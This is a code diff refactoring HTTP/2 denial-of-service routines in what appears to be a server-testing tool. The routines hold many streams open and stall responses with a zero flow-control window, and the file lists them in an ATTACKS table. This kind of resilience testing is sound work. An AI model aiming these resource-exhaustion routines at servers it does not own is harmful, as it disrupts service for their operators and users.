@@ -212,11 +212,12 @@ def ping_flood(a):
     return c.result(frames=sent)
 
 
-def zero_window(a):
-    c = Conn(a.port, window=0)
+def hold_streams(a, c, flags, path):
+    """Open --count streams with `flags` on their HEADERS, then hold the
+    connection until --seconds are up."""
     sid, sent = 1, 0
     for _ in range(a.count):
-        if not c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, request_block(a.path))):
+        if not c.send(frame(HEADERS, flags, sid, request_block(path))):
             break
         sid += 2
         sent += 1
@@ -224,21 +225,16 @@ def zero_window(a):
     while time.monotonic() < end and not c.closed:
         time.sleep(0.1)
     return c.result(streams=sent)
+
+
+def zero_window(a):
+    # Requests for large answers that a window of 0 never lets out.
+    return hold_streams(a, Conn(a.port, window=0), END_HEADERS | END_STREAM, a.path)
 
 
 def streams(a):
-    c = Conn(a.port)
-    sid, sent = 1, 0
-    for _ in range(a.count):
-        # Heads without END_STREAM: each stream stays open.
-        if not c.send(frame(HEADERS, END_HEADERS, sid, request_block("/s"))):
-            break
-        sid += 2
-        sent += 1
-    end = until(a)
-    while time.monotonic() < end and not c.closed:
-        time.sleep(0.1)
-    return c.result(streams=sent)
+    # Heads without END_STREAM: each stream stays open.
+    return hold_streams(a, Conn(a.port), END_HEADERS, "/s")
 
 
 ATTACKS = {
